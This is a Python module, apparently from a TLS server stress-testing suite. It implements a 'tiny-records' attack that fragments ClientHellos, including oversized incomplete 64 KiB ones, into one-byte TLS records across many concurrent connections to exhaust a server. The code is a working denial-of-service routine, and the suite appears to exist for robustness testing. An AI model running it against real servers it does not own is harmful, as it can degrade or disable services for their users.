"""TLS handshakes that are cut into records of one byte."""

from __future__ import annotations

import select
import ssl
import time
from collections import Counter
from contextlib import suppress

from suite.attack import Attack, Outcome, Setup
from suite.silence import Silent
from suite.target import Target

_CONNECTIONS = 50
_MAX_CONNECTIONS = 3_000
_RECONNECT_PAUSE = 0.002
_HANDSHAKE, _TLS_1_0 = b"\x16", b"\x03\x01"
# A ClientHello of the largest size that a server has to accept.
_HELLO_BYTES = 65_535


def _records(message: bytes) -> bytes:
    """Records of one byte each."""
    return b"".join(_HANDSHAKE + _TLS_1_0 + b"\x00\x01" + message[at : at + 1] for at in range(len(message)))


def _client_hello() -> bytes:
    """A ClientHello without the header of its record."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="localhost")
    with suppress(ssl.SSLWantReadError):
        client.do_handshake()
    return outgoing.read()[5:]


def tiny_records(target: Target, until: float) -> Outcome:
    """Sends ClientHellos in records of one byte: complete ones, and ones of 64 KiB that lack the last byte."""
    huge = b"\x01" + (_HELLO_BYTES - 4).to_bytes(3, "big") + b"\x03\x03" + bytes(_HELLO_BYTES - 7)
    hellos = [_records(huge), _records(_client_hello())]
    statuses = Counter[str]()
    poll = select.poll()
    current: dict[int, tuple[Silent, memoryview]] = {}
    count = 0

    def connect() -> None:
        nonlocal count
        silent = Silent(target.tcp())
        current[silent.socket.fileno()] = (silent, memoryview(hellos[count % len(hellos)]))
        poll.register(silent.socket, select.POLLOUT | select.POLLIN)
        count += 1

    def end(file: int) -> None:
        silent, _ = current.pop(file)
        poll.unregister(file)
        statuses[silent.status] += 1
        silent.socket.close()

    for _ in range(_CONNECTIONS):
        connect()
    while time.monotonic() < until:
        for file, events in poll.poll(20):
            silent, unsent = current[file]
            if events & ~select.POLLOUT:
                # An alert, or the answer to a complete ClientHello.
                first = silent.first_byte()
                answers = {b"\x15": "TLS alert", b"\x16": "TLS handshake"}
                silent.status = answers.get(first, "connection closed")
                end(file)
                if count < _MAX_CONNECTIONS:
                    time.sleep(_RECONNECT_PAUSE)
                    connect()
            elif unsent:
                with suppress(OSError):
                    current[file] = (silent, unsent[silent.socket.send(unsent[: 64 << 10]) :])
            else:
                poll.modify(file, select.POLLIN)
    for file in list(current):
        end(file)
    return Outcome(f"{count:,} handshakes", statuses)


ATTACKS = (
    Attack(
        "tiny-records",
        "sends ClientHellos in TLS records of one byte, of up to 64 KiB",
        tiny_records,
        ("TLS alert", "TLS handshake", "connection open", "connection closed", "connection reset"),
        seconds=2.0,
        setup=Setup.TLS,
    ),
)
